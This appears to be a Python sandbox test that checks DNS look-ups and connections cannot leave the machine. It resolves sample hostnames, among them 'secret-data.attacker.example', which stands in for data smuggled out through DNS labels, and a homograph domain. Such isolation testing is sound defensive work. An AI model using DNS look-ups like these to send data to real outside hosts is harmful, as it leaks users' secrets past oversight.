# expect: succeeded result='"refused"' memory=64MiB timeout=5s
# A name look-up would carry data out by itself (DNS labels): none leaves.
import socket


def itself(name):
    if name == "localhost":
        return "127.0.0.1"
    try:
        return name.encode("idna").decode()
    except UnicodeError:
        return name


def run():
    for name in ("example.com", "localhost", "secret-data.attacker.example", "a" * 300, "xn--", "\u0430pple.com", "127.1"):
        for look_up in (
            lambda: socket.getaddrinfo(name, 443),
            lambda: socket.gethostbyname(name),
            lambda: socket.create_connection((name, 443), timeout=1),
        ):
            try:
                answer = look_up()
            except (OSError, UnicodeError):
                continue
            # The name itself is no answer of anybody's, and that of this machine is known.
            assert answer == itself(name), (name, answer)
    return "refused"
